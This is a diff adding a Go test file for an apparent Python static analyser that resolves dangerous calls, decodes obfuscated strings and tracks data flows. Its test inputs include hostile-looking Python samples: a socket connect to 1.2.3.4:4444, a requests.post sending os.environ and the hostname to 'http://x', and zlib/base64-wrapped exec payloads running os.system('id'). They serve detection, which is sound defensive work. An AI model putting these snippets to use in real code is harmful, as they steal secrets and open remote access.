@@ -1,0 +1,136 @@
+package python
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+func load(t *testing.T, src string) *Module {
+	t.Helper()
+	m, err := Load([]byte(src))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return m
+}
+
+func callNames(m *Module) []string {
+	var out []string
+	for _, c := range m.Calls {
+		out = append(out, c.Name)
+	}
+	return out
+}
+
+func TestResolve(t *testing.T) {
+	tests := []struct {
+		src  string
+		want []string
+	}{
+		{"import subprocess as sp\nsp.Popen(['id'])", []string{"subprocess.Popen"}},
+		{"from os import system as s\ns('id')", []string{"os.system"}},
+		{"__import__('os').system('id')", []string{"os.system", "builtins.__import__"}},
+		{"import importlib\nimportlib.import_module('subprocess').call('x')", []string{"subprocess.call", "importlib.import_module"}},
+		{"import os\ngetattr(os, 'sys' + 'tem')('id')", []string{"os.system", "builtins.getattr"}},
+		{"globals()['__builtins__'].exec('x')", []string{"builtins.exec", "builtins.globals"}},
+		{"import builtins\nbuiltins.exec('x')", []string{"builtins.exec"}},
+		{"__builtins__.__dict__['eval']('1')", []string{"builtins.eval"}},
+		{"import socket\ns = socket.socket()\ns.connect(('1.2.3.4', 4444))", []string{"socket.socket", "socket.socket().connect"}},
+		{"import requests as r\nr.Session().post('u')", []string{"requests.Session().post", "requests.Session"}},
+		{"e = eval\ne('1')", []string{"builtins.eval"}},
+		{"import urllib.request\nurllib.request.urlopen('http://x')", []string{"urllib.request.urlopen"}},
+		{"with open('f') as fh:\n    fh.write('x')", []string{"builtins.open", "fh.write"}},
+	}
+	for _, tt := range tests {
+		if diff := cmp.Diff(tt.want, callNames(load(t, tt.src))); diff != "" {
+			t.Errorf("%q (-want +got):\n%s", tt.src, diff)
+		}
+	}
+}
+
+func TestEvalStrings(t *testing.T) {
+	tests := []struct {
+		src  string
+		want string
+	}{
+		{`x = "a" "b" + 'c'`, "abc"},
+		{`x = "".join(["o", "s"])`, "os"},
+		{`x = "-".join("abc")`, "a-b-c"},
+		{`x = "%s.%s" % ("a", "b")`, "a.b"},
+		{`x = "{}/{}".format("a", 1)`, "a/1"},
+		{`x = f"{'a'}b"`, "ab"},
+		{`x = "".join(chr(c) for c in [105, 100])`, "id"},
+		{`x = "".join(map(chr, [105, 100]))`, "id"},
+		{`x = bytes([105, 100]).decode()`, "id"},
+		{`x = "dlrow"[::-1]`, "world"},
+		{`x = "abcdef"[1:3]`, "bc"},
+		{`x = "\x69\x64\n"`, "id\n"},
+		{`x = r"\x69"`, `\x69`},
+		{`import base64` + "\n" + `x = base64.b64decode("aW1wb3J0IG9z").decode()`, "import os"},
+		{`import codecs` + "\n" + `x = codecs.decode("vzcbeg bf", "rot13")`, "import os"},
+		{`x = bytes.fromhex("696d706f7274")`, "import"},
+		{`a = "im"` + "\n" + `b = a + "port"` + "\n" + `x = b`, "import"},
+		{`x = "ab" * 2`, "abab"},
+	}
+	for _, tt := range tests {
+		m := load(t, tt.src)
+		v, ok := m.consts["x"]
+		if !ok || v.S != tt.want {
+			t.Errorf("%q: x = %q (known %v), want %q", tt.src, v.S, ok, tt.want)
+		}
+	}
+}
+
+func TestEvalZlibBase64Payload(t *testing.T) {
+	// exec(zlib.decompress(base64.b64decode(...))) of "import os\nos.system('id')"
+	m := load(t, "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC/myi/WK64sLknN1VDPTFHXBAB6bgjJ')))\n")
+	if len(m.Payloads) == 0 {
+		t.Fatal("no payload recorded")
+	}
+	var found bool
+	for _, p := range m.Payloads {
+		if strings.Contains(p.Value.S, "os.system('id')") && cmp.Equal(p.Value.Decoders, []string{"base64.b64decode", "zlib.decompress"}) {
+			found = true
+		}
+	}
+	if !found {
+		t.Errorf("payloads = %+v", m.Payloads)
+	}
+}
+
+func TestFlows(t *testing.T) {
+	m := load(t, "import socket, requests, os\nh = socket.gethostname()\ndata = {'h': h, 'env': dict(os.environ)}\nrequests.post('http://x', data=data)\n")
+	var post *Call
+	for i := range m.Calls {
+		if m.Calls[i].Name == "requests.post" {
+			post = &m.Calls[i]
+		}
+	}
+	if post == nil {
+		t.Fatal("no requests.post call")
+	}
+	v := m.Eval(post.Kwargs["data"])
+	for _, want := range []string{"socket.gethostname()", "os.environ"} {
+		if !v.DerivesFrom(func(s string) bool { return s == want }) {
+			t.Errorf("data does not derive from %s: %v", want, v.From)
+		}
+	}
+}
+
+func TestPython2Exec(t *testing.T) {
+	m := load(t, "import base64\nexec base64.b64decode('aW1wb3J0IG9z') in globals()\nprint 'done'\n")
+	var execs int
+	for _, c := range m.Calls {
+		if c.Name == "builtins.exec" {
+			execs++
+		}
+	}
+	if execs == 0 {
+		t.Errorf("python 2 exec statement not seen as an exec call: %v", callNames(m))
+	}
+	if len(m.Payloads) == 0 {
+		t.Errorf("payload not decoded")
+	}
+}
